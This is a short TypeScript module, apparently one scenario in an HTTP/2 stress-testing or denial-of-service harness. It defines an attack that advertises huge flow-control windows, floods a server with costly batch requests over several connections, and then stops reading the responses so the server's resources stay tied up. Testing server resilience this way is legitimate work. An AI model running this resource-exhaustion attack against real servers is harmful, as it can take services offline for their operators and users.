import { type Attack, callHeaders } from "./attack.js";
import { BATCH, batchOf, dataFrames } from "./costly-batches.js";
import { frame, number32, setting, TYPE } from "./frames.js";

const INITIAL_WINDOW_SIZE = 4;

/** Batches whose client has room for every answer, and stops to read in the middle of the first. */
export const halfReadBatches: Attack = {
  name: "batch answers read half",
  connections: 4,
  endsAfter: 62,
  async run(connection) {
    const largest = frame(TYPE.windowUpdate, 0, 0, number32(2 ** 30));
    await connection.begin(setting(INITIAL_WINDOW_SIZE, 2 ** 30), largest);
    const body = dataFrames(batchOf(1_000));
    for (let id = 1; connection.going; id += 2) {
      await connection.write(Buffer.concat([callHeaders(id, false, BATCH), ...body(id)]));
      await connection.wait(5);
      if (connection.received.length > 500) connection.stopReading();
    }
  },
};
